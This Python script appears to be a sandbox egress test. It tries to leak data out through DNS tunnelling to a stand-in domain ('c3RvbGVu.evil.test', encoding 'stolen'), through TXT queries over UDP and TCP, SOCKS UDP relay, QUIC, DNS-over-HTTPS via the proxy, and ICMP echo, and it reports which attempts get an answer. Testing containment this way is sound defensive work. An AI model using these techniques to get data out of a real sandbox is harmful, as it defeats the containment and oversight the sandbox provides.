"""Tries to get data out past the rules of its sandbox, and prints for each attempt whether anything came back.

usage: network_escapes.py NAME_SERVER_PORT WITNESS_PORT RESOLVER_PORT ADDRESS...

The ports are those of sockets on the host: of its name server, of one that takes datagrams, and of one that would
answer names over HTTPS. Each ADDRESS is one at which the host is reached.
"""

import os
import socket
import struct
import sys
from urllib.parse import urlsplit

name_server_port, witness_port, resolver_port = map(int, sys.argv[1:4])
addresses = sys.argv[4:]
HELPER_ADDRESS = "127.63.0.53"
SOCKS_PORT = 1080
TIMEOUT_SECONDS = 10
# Data in a name that no rule allows.
TUNNEL_NAME = "c3RvbGVu.evil.test"
TYPE_TXT = 16
# How a connection of QUIC begins: a long header of version 1.
QUIC_START = bytes([0xC0, 0, 0, 0, 1, 8]) + bytes(1194)
ECHO_REQUEST = struct.pack("!BBHHH", 8, 0, 0xF7FF, 0, 0)


def attempt(what, act):
    try:
        act()
        print(what, "answered")
    except OSError:
        print(what, "failed")


def query_text():
    labels = b"".join(bytes([len(label)]) + label.encode() for label in TUNNEL_NAME.split("."))
    header = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    return header + labels + b"\0" + struct.pack("!HH", TYPE_TXT, 1)


def check_answer(reply):
    if len(reply) < 12 or struct.unpack("!H", reply[6:8])[0] == 0:
        raise OSError("no record")


def exchange_datagram(address, port, message):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.settimeout(TIMEOUT_SECONDS)
        # Not the port that it sends to: at its own loopback it would answer itself.
        datagrams.bind(("", port - 1 if port > 1024 else 0))
        datagrams.connect((address, port))
        datagrams.send(message)
        return datagrams.recv(2048)


def ask_by_tcp(address, port):
    with socket.create_connection((address, port), timeout=TIMEOUT_SECONDS) as stream:
        query = query_text()
        stream.sendall(struct.pack("!H", len(query)) + query)
        reply = stream.recv(2048)
        check_answer(reply[2:])


def echo(kind, address):
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as echoes:
        echoes.settimeout(TIMEOUT_SECONDS)
        echoes.sendto(ECHO_REQUEST, (address, 0))
        echoes.recv(2048)


def associate_socks():
    """Asks the SOCKS proxy to relay datagrams."""
    with socket.create_connection((HELPER_ADDRESS, SOCKS_PORT), timeout=TIMEOUT_SECONDS) as stream:
        stream.sendall(bytes([5, 1, 0]))
        stream.recv(2)
        stream.sendall(bytes([5, 3, 0, 1, 0, 0, 0, 0, 0, 0]))
        reply = stream.recv(10)
        if len(reply) < 2 or reply[1] != 0:
            raise OSError("not granted")


def ask_proxy(request):
    proxy = urlsplit(os.environ["HTTP_PROXY"])
    with socket.create_connection((proxy.hostname, proxy.port), timeout=TIMEOUT_SECONDS) as stream:
        stream.sendall(request.encode())
        if b" 200 " not in stream.makefile("rb").readline():
            raise OSError("refused")


attempt("lookup", lambda: socket.getaddrinfo(TUNNEL_NAME, 80))
attempt("text record", lambda: check_answer(exchange_datagram(HELPER_ADDRESS, 53, query_text())))
attempt("text record by TCP", lambda: ask_by_tcp(HELPER_ADDRESS, 53))
attempt("SOCKS datagrams", associate_socks)
for address in ["127.0.0.1", *addresses]:
    attempt(f"name server {address}", lambda: exchange_datagram(address, name_server_port, query_text()))
    attempt(f"name server {address} by TCP", lambda: ask_by_tcp(address, name_server_port))
    attempt(f"QUIC {address}", lambda: exchange_datagram(address, witness_port, QUIC_START))
    resolver = f"{address}:{resolver_port}"
    attempt(
        f"HTTPS resolver {address}",
        lambda: ask_proxy(f"CONNECT {resolver} HTTP/1.1\r\nHost: {resolver}\r\n\r\n"),
    )
    attempt(
        f"HTTP resolver {address}",
        lambda: ask_proxy(
            f"GET http://{resolver}/dns-query?dns=AAAB HTTP/1.1\r\nHost: {resolver}\r\nConnection: close\r\n\r\n"
        ),
    )
# The sandbox's own loopback answers echoes, so others are asked.
for address in ["192.0.2.1", *addresses]:
    attempt(f"echo {address}", lambda: echo(socket.SOCK_DGRAM, address))
    attempt(f"raw echo {address}", lambda: echo(socket.SOCK_RAW, address))
